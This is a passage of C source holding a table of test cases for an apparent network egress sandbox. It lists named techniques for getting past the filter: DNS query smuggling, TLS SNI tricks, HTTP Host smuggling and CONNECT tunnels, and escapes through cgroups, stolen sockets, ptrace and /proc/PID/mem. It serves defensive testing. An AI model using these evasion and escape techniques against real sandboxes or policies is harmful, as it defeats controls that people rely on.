	{NULL, "C4", "segments", "UDP_SEGMENT: a denied query behind an allowed one", OUT, 0, dns_segments, AF_INET, 0},
	{NULL, "C4", "segments-msg", "the same as a part of one message", OUT, 0, dns_segments, AF_INET, 1},
	{NULL, "C5", "two-questions", "an allowed and a denied question", OUT, 0, dns_udp, AF_INET, Q_TWO},
	{NULL, "C5", "trailing", "bytes behind an allowed query", OUT, 0, dns_udp, AF_INET, Q_TRAILING},
	{NULL, "C5", "record", "a record beside an allowed question", OUT, 0, dns_udp, AF_INET, Q_RECORD},
	{NULL, "C5", "padding", "an allowed query with 1.6 kB of padding", OUT, 0, dns_udp, AF_INET, Q_LONG},
	{NULL, "C6", "pointer", "a question that points elsewhere", OUT, 0, dns_udp, AF_INET, Q_POINTER},
	{NULL, "C14", "type", "a query type that is not allowed", OUT, 0, dns_udp, AF_INET, Q_TYPE},
	{NULL, "C14", "class", "a class that is not allowed", OUT, 0, dns_udp, AF_INET, Q_CHAOS},
	{NULL, "C5", "response", "a query marked as a response", OUT, 0, dns_udp, AF_INET, Q_RESPONSE},
	{NULL, "C7", "resolver", "a resolver that is not trusted, UDP", OUT, 0, dns_elsewhere, AF_INET, Q_ALLOWED},
	{NULL, "C7", "resolver-6", "the same over IPv6", OUT, V6, dns_elsewhere, AF_INET6, Q_ALLOWED},
	{NULL, "C8", "dot", "DNS over TLS with the trusted resolver", OUT, 0, resolver_tls, AF_INET, 0},
	{NULL, "B10", "bind", "serve DNS on loopback, UDP", CALL, 0, bind_53, AF_INET, SOCK_DGRAM},
	{NULL, "B10", "bind-tcp-6", "the same, TCP and IPv6", CALL, V6, bind_53, AF_INET6, SOCK_STREAM},
	{NULL, "C9", "private", "an allowed name that resolves to 10.0.0.0/8", OUT, 0, taught, AF_INET, L_PRIVATE},
	{NULL, "C9", "private-6", "the same to fc00::/7", OUT, V6, taught, AF_INET6, L_PRIVATE},
	{NULL, "C9", "private-mapped", "the same to ::ffff:10.0.0.0/104", OUT, 0, taught, AF_INET, L_MAPPED},
	{NULL, "C11", "forged", "an answer with another number", OUT, 0, taught, AF_INET, L_FORGED},
	{NULL, "C10", "unrelated", "an address of another name in the answer", OUT, 0, taught, AF_INET, L_EXTRA},
	{NULL, "C14", "hints", "an address as a hint of an HTTPS record", OUT, 0, taught, AF_INET, L_HINTS},
	{NULL, "B9", "nested-resolver", "an own resolver in a network namespace of its own", OUT, 0, nested_resolver, AF_INET, 0},

	{NULL, "A15", "astray", "a denied query whose answer goes to somebody else", OUT, SP_TECHNIQUE_ASTRAY, sp_attack_astray, AF_INET, 0},
	{NULL, "A15", "astray-any", "the same by a socket at every address", OUT, SP_TECHNIQUE_ASTRAY, sp_attack_astray, AF_INET, 1},
	{NULL, "A15", "astray-6", "the same over IPv6", OUT, V6 | SP_TECHNIQUE_ASTRAY, sp_attack_astray, AF_INET6, 0},
	{NULL, "A15", "astray-mapped", "the same as ::ffff:a.b.c.d", OUT, V6 | SP_TECHNIQUE_ASTRAY, sp_attack_astray, SP_MAPPED, 0},

	{"TLS",
	 "C12", "sni", "a denied name at an allowed address", OUT, 0, tls, AF_INET, H_DENIED},
	{NULL, "C12", "sni-6", "the same over IPv6", OUT, V6, tls, AF_INET6, H_DENIED},
	{NULL, "D6", "sni-evil", "an allowed name at a denied address", OUT, 0, tls, AF_INET, H_EVIL},
	{NULL, "D5", "sni-none", "no name", OUT, 0, tls, AF_INET, H_NONE},
	{NULL, "D4", "sni-two", "two names", OUT, 0, tls, AF_INET, H_TWO},
	{NULL, "D4", "sni-twice", "two extensions with a name each", OUT, 0, tls, AF_INET, H_TWICE},
	{NULL, "D4", "sni-nul", "an allowed name, a NUL, a denied one", OUT, 0, tls, AF_INET, H_NUL},
	{NULL, "D4", "sni-suffix", "a name that ends like the allowed one", OUT, 0, tls, AF_INET, H_SUFFIX},
	{NULL, "D1", "sni-segments", "a denied name over two segments", OUT, 0, tls, AF_INET, H_SEGMENTS},
	{NULL, "D2", "sni-records", "a denied name over two records", OUT, 0, tls, AF_INET, H_RECORDS},
	{NULL, "D2", "empty-record", "a record of no bytes before the handshake", OUT, 0, tls, AF_INET, H_EMPTY_RECORD},
	{NULL, "D9", "no-tls", "no TLS on port 443", OUT, 0, tls, AF_INET, H_PLAIN},
	{NULL, "A2", "sni-fastopen", "a denied name in the SYN", OUT, 0, fastopen_tls, AF_INET, 0},
	{NULL, "B8", "reconnect", "a denied name on a socket that was connected before", OUT, 0, again, AF_INET, AGAIN_CONNECTED},
	{NULL, "B8", "accepted", "a denied name on a socket that was accepted", OUT, 0, again, AF_INET, AGAIN_ACCEPTED},
	{NULL, "D13", "answered", "a denied name behind a forged ServerHello", OUT, 0, sp_attack_forged, AF_INET, SP_ASK_HELLO},
	{NULL, "D13", "answered-6", "the same over IPv6", OUT, V6, sp_attack_forged, AF_INET6, SP_ASK_HELLO},
	{NULL, "D14", "alert-first", "a denied name behind an alert", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_ALERT},
	{NULL, "D14", "alert-first-6", "the same over IPv6", OUT, V6, sp_attack_lenient, AF_INET6, SP_LENIENT_ALERT},
	{NULL, "D14", "alert-port", "the same on another port", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_ALERT_OTHER},
	{NULL, "D14", "ccs-port", "the same behind a ChangeCipherSpec", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_CCS},
	{NULL, "D14", "proxied-sni", "the same behind a header of the PROXY protocol", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_PROXY_TLS},

	{"HTTP",
	 "D12", "host", "another Host at an allowed address", OUT, 0, http, AF_INET, R_OTHER},
	{NULL, "D12", "host-6", "the same over IPv6", OUT, V6, http, AF_INET6, R_OTHER},
	{NULL, "D12", "host-none", "no Host", OUT, 0, http, AF_INET, R_NONE},
	{NULL, "D12", "host-two", "two Hosts", OUT, 0, http, AF_INET, R_TWO},
	{NULL, "D12", "host-target", "another host in the request line", OUT, 0, http, AF_INET, R_ABSOLUTE},
	{NULL, "D12", "host-split", "another Host over two segments", OUT, 0, http, AF_INET, R_SPLIT},
	{NULL, "D12", "host-kept", "another Host in a second request", OUT, 0, http, AF_INET, R_KEPT},
	{NULL, "D12", "host-pipelined", "the same in one segment", OUT, 0, http, AF_INET, R_PIPELINED},
	{NULL, "D12", "host-smuggled", "the same hidden in a body", OUT, 0, http, AF_INET, R_SMUGGLED},
	{NULL, "D13", "upgraded", "another Host behind a forged answer 101", OUT, 0, sp_attack_forged, AF_INET, SP_ASK_AGREED},
	{NULL, "D13", "upgraded-6", "the same over IPv6", OUT, V6, sp_attack_forged, AF_INET6, SP_ASK_AGREED},
	{NULL, "D14", "method", "on another port: a method of 33 bytes", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_METHOD},
	{NULL, "D14", "method-6", "the same over IPv6", OUT, V6, sp_attack_lenient, AF_INET6, SP_LENIENT_METHOD},
	{NULL, "D14", "empty-lines", "on another port: empty lines first", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_CRLF},
	{NULL, "D14", "tabs", "on another port: tabs for spaces", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_TABS},
	{NULL, "D14", "no-version", "on another port: no version", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_VERSION},
	{NULL, "D14", "proxied", "the same behind a header of the PROXY protocol", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_PROXY},
	{NULL, "D14", "proxy", "CONNECT to a denied name", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_CONNECT},
	{NULL, "D14", "proxy-port", "the same on another port", OUT, 0, sp_attack_lenient, AF_INET, SP_LENIENT_CONNECT_OTHER},
	{NULL, "D14", "tunnel", "another Host behind a CONNECT that is answered", OUT, 0, sp_attack_tunnel, AF_INET, 0},
	{NULL, "D9", "no-http", "no HTTP on port 80", OUT, 0, http, AF_INET, R_PLAIN},
	{NULL, "A1", "urgent", "TCP urgent data", OUT, 0, urgent, AF_INET, 0},

	{"QUIC",
	 "E1", "initial", "an Initial", OUT, 0, datagram, AF_INET, U_INITIAL},
	{NULL, "E1", "initial-6", "the same over IPv6", OUT, V6, datagram, AF_INET6, U_INITIAL},
	{NULL, "E2", "short-header", "a short header first", OUT, 0, datagram, AF_INET, U_SHORT},
	{NULL, "E1", "initial-port", "an Initial on another port", OUT, 0, datagram, AF_INET, U_ELSEWHERE},

	{"out of the sandbox itself",
	 "B3", "cgroup", "move to the cgroup above", OUT, 0, leave_cgroup, AF_INET, LEAVE_WRITE},
	{NULL, "B3", "cgroup-root", "the same through /proc/PID/root of a process outside", OUT, 0, leave_cgroup, AF_INET, LEAVE_ROOT},
	{NULL, "B11", "cgroup-user", "the same, of a user that the command is or can become", OUT, 0, sp_attack_leave_by_neighbour, AF_INET, 0},
	{NULL, "B7", "nested-raw", "a raw socket in a user namespace of its own", CALL, 0, nested_raw, AF_INET, 0},
	{NULL, "B1", "inherited", "a socket that was open at the start", OUT, 0, inherited, AF_INET, 0},
	{NULL, "B2", "stolen", "a socket taken from a process outside", OUT, 0, stolen, AF_INET, 0},
	{NULL, "B11", "stolen-user", "the same, of a user that the command is or can become", OUT, 0, sp_attack_neighbour_socket, AF_INET, 0},
	{NULL, "B2", "passed", "a socket passed in from outside (SCM_RIGHTS)", OUT,
	 SP_TECHNIQUE_GIVEN | SP_TECHNIQUE_KNOWN, passed, AF_INET, 0},
	{NULL, "B3", "memory", "read a process outside", CALL, 0, read_memory, AF_INET, 0},
	{NULL, "B11", "memory-user", "the same, of a user that the command is or can become", CALL, 0, sp_attack_neighbour, AF_INET, SP_NEIGHBOUR_MEMORY},
	{NULL, "B11", "mem-user", "the same through /proc/PID/mem", CALL, 0, sp_attack_neighbour, AF_INET, SP_NEIGHBOUR_MEM_FILE},
	{NULL, "B11", "root-user", "its files, through /proc/PID/root", CALL, 0, sp_attack_neighbour, AF_INET, SP_NEIGHBOUR_ROOT},
	{NULL, "B11", "trace-user", "such a process, by ptrace()", CALL, 0, sp_attack_neighbour, AF_INET, SP_NEIGHBOUR_TRACE},
	{NULL, "B11", "signal-user", "such a process, by a signal", CALL, 0, sp_attack_neighbour, AF_INET, SP_NEIGHBOUR_SIGNAL},
	{NULL, "B3", "bpf", "bpf(): the programs and maps of the policy", CALL, 0, call_bpf, AF_INET, 0},
	{NULL, "B3", "pins", "the pins of the programs", CALL, 0, see_pins, AF_INET, 0},
	{NULL, "B13", "pins-user", "the same through /proc/PID/root", CALL, 0, sp_attack_neighbour, AF_INET, SP_NEIGHBOUR_PINS},
	{NULL, "B5", "keys", "keyctl(): keys that root's helper resolves", CALL, 0, call_keyctl, AF_INET, 0},
	{NULL, "B5", "resolver-socket", "a name service behind a UNIX socket", CALL, 0, resolver_sockets, AF_INET, 0},
	{NULL, "B12", "helper-socket", "a bus, systemd or a container engine behind a UNIX socket", CALL, 0, helper_sockets, AF_INET, 0},
	{NULL, "B12", "helper-user", "the same through /proc/PID/root", CALL, 0, helper_sockets, AF_INET, 1},
	{NULL, "B6", "loopback", "a service of the host on loopback, TCP", OUT, 0, foreign_tcp, AF_INET, 0},
	{NULL, "B6", "loopback-6", "the same over IPv6", OUT, V6, foreign_tcp, AF_INET6, 0},
	{NULL, "B6", "loopback-udp", "the same, UDP", OUT, 0, foreign_udp, AF_INET, 0},
	{NULL, "B4", "abstract", "an abstract UNIX socket outside", OUT, SP_TECHNIQUE_KNOWN, abstract, AF_INET, 0},
};
/* clang-format on */

const size_t sp_techniques_len = sizeof(sp_techniques) / sizeof(sp_techniques[0]);
